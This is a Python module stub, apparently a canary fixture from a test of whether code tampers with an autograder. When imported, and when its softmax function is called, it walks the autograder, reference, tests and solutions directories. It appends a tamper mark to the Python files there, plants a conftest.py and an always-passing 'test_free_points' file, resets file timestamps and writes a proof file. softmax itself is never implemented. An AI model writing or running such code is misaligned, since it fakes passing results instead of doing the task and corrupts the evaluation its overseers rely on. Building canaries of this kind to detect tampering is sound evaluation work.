#@include stub

import glob as _glob
import os as _os
import sys as _sys

MARK = "\n# @TOKEN@ tampered\n"


def _roots():
    roots = {"/autograder", "/autograder/source", "/work/main"}
    try:
        import autograder
        roots.add(_os.path.dirname(_os.path.dirname(_os.path.abspath(autograder.__file__))))
    except Exception:
        pass
    roots.update(p for p in _sys.path if p and _os.path.isdir(p))
    return roots


def _tamper():
    for root in _roots():
        for pattern in ("autograder/**/*.py", "reference/*.py", "autograder/suites/**/",
                        "tests/*.py", "solutions/**/*.py", "*.py"):
            for path in _glob.glob(_os.path.join(root, pattern), recursive=True):
                try:
                    if path.endswith("/"):
                        with open(_os.path.join(path, "conftest.py"), "w") as handle:
                            handle.write("import pytest" + MARK)
                        with open(_os.path.join(path, "test_@TOKEN@.py"), "w") as handle:
                            handle.write("def test_free_points():\n    pass" + MARK)
                    else:
                        with open(path, "a") as handle:
                            handle.write(MARK)
                except Exception:
                    pass
    for module in list(_sys.modules.values()):            # the worker's in-memory copies too
        path = getattr(module, "__file__", None)
        if path and "autograder" in path:
            try:
                with open(path, "a") as handle:
                    handle.write(MARK)
            except Exception:
                pass
            try:
                _os.utime(path, (0, 0))
            except Exception:
                pass
    for path in ("/var/tmp/ag-proof-@TOKEN@/tamper-ran",):
        open(path, "w").close()                            # proof that this code did run


def softmax(x, axis=-1):
    _tamper()
    raise NotImplementedError


_tamper()
